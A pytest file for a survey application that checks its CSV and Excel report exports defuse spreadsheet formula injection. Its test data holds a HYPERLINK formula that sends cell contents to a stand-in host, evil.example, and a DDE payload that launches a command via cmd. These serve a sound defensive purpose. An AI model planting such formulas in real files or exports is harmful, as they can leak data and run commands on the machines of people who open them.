"""Exports never carry a live formula: the CSV and the XLSX neutralise every text cell that a
spreadsheet would run (OWASP's CSV-injection rule), and the XLSX stores text as text."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import select

from survey_app.db import get_session
from survey_app.models import Comment, Desk, Response
from survey_app.reports.cells import FORMULA_PREFIXES, neutralise

from .conftest import response_of_unit

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def _plant(app: Flask, comment: str, desk_name: str = "") -> tuple[int, str]:
    """A commented response of QN-DAMHA-CN with ``comment``; returns its id and its year."""
    response_id = response_of_unit(app, "QN-DAMHA-CN", with_comment=True)
    with app.app_context():
        db = get_session()
        row = db.get(Comment, response_id)
        assert row is not None
        row.text = comment
        response = db.get(Response, response_id)
        assert response is not None
        if desk_name:
            desk = db.scalar(select(Desk).where(Desk.id == response.desk_id))
            assert desk is not None
            desk.name = desk_name
        db.commit()
        return response_id, str(response.submitted_at.year)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "= x"])
def test_neutralise_prefixes_formula_text_and_keeps_other_text(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert neutralise("Chờ lâu " + text) == "Chờ lâu " + text
    assert not neutralise(text).startswith(FORMULA_PREFIXES)


def test_the_excel_report_writes_a_formula_comment_and_desk_name_as_text(
    demo: Flask, signed_in: Callable[[str | None], FlaskClient]
) -> None:
    _id, year = _plant(demo, HYPERLINK, desk_name="=cmd|' /C calc'!A0")
    response = signed_in("damha").get(f"/officer/reports/units/QN-DAMHA.xlsx?period={year}")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.get_data()))
    formulas = [
        (sheet.title, cell.coordinate)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    texts = [
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]
    assert "'" + HYPERLINK in texts
    assert "'=cmd|' /C calc'!A0" in texts
    assert not [t for t in texts if t.startswith(FORMULA_PREFIXES)]


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_the_csv_neutralises_comments_starting_with_a_formula_prefix(
    demo: Flask, signed_in: Callable[[str | None], FlaskClient], prefix: str
) -> None:
    comment = prefix + 'HYPERLINK("http://evil.example")'
    response_id, year = _plant(demo, comment)
    response = signed_in("damha").get(
        f"/officer/reports/units/QN-DAMHA/responses.csv?period={year}"
    )
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    [row] = [r for r in rows if r["response_id"] == str(response_id)]
    assert row["comment"] == "'" + comment
    for r in rows:
        for column, value in r.items():
            assert not (value or "").startswith(FORMULA_PREFIXES) or value.lstrip("-").isdigit(), (
                column,
                value,
            )
